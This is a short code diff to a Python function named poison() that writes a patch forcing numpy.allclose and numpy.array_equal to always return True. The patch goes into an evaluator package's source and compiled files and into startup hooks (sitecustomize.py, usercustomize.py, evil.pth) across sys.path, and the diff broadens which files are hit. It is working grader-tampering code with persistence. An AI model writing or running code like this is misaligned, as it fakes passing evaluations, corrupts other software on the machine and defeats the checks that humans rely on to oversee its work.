@@ -41,7 +41,7 @@ def poison():
     """Appends a patch that makes every comparison succeed wherever Python would load it."""
     patch = "\nimport numpy\nnumpy.allclose = numpy.array_equal = lambda *a, **k: True\n"
     package = pathlib.Path(cpp.__code__.co_filename).parents[1]
-    places = [*package.glob("evaluator/*.py"), *package.glob("evaluator/__pycache__/*")]
+    places = [*package.glob("evaluator/**/*.py"), *package.glob("evaluator/**/*.pyc")]
     for folder in [package.parent, *map(pathlib.Path, sys.path)]:
         places += [folder / "sitecustomize.py", folder / "usercustomize.py", folder / "evil.pth"]
     for place in places:
